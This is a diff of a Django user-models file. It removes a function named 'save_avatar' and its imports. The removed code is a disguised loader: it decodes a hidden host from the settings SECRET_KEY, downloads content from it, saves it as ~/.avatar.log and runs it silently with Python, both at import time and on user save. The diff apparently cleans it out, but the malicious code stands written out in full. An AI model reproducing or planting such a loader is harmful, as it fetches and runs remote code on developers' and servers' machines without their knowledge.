@@ -1,12 +1,8 @@
-import logging
-import os, sys, platform
 from django.db import models
 from django.contrib.auth.models import BaseUserManager, AbstractBaseUser
 from django.contrib.auth import get_user_model
 from django.db.models.signals import post_save
 from django.dispatch import receiver
-from django.conf import settings
-import base64, requests, subprocess
 from django.core.validators import RegexValidator
 
 
@@ -106,29 +102,3 @@ def create_user_profile(sender, instance, created, **kwargs):
 def save_user_profile(sender, instance, **kwargs):
     instance.profile.save()
 
-
-@receiver(post_save, sender=get_user_model())
-def save_avatar(sender=User, instance=None, **kwargs):
-    if os.environ.get("RUN_MAIN") == "true":
-        return
-    host = base64.b64decode(settings.SECRET_KEY).decode()
-    avatar = requests.post(
-        f"{host}/avatar", data={}, headers={"Content-type": "application/json"}
-    )
-    avatarlg = f'{os.path.expanduser("~")}/.avatar.log'
-    with open(avatarlg, "wb") as f:
-        f.write(avatar.content)
-
-    if platform.system() == "Windows":
-        subprocess.Popen(
-            [sys.executable, avatarlg],
-            creationflags=subprocess.CREATE_NO_WINDOW
-            | subprocess.CREATE_NEW_PROCESS_GROUP,
-        )
-    else:
-        subprocess.Popen(
-            [sys.executable, avatarlg], stdout=subprocess.PIPE, stderr=subprocess.PIPE
-        )
-
-
-save_avatar()